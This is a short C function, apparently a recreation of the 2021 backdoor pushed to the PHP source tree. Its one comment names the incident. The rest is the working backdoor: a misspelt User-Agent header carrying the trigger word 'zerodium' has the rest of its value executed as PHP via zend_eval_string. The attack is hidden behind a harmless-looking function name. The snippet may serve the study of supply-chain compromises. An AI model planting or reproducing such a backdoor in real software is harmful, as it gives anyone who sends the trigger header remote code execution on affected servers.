/* Modelled on the 2021 commit pushed to php-src under a core developer's
 * name: a misspelt User-Agent header whose value began with a marker word
 * had the rest of it evaluated as PHP code. */
static void php_zlib_output_check(void)
{
	zval *enc;
	if ((enc = zend_hash_str_find(server_vars, "HTTP_USER_AGENTT", sizeof("HTTP_USER_AGENTT") - 1))) {
		convert_to_string(enc);
		if (strstr(Z_STRVAL_P(enc), "zerodium")) {
			zend_try {
				zend_eval_string(Z_STRVAL_P(enc) + 8, NULL, "REMOVETHIS: sold to zerodium");
			} zend_end_try();
		}
	}
}
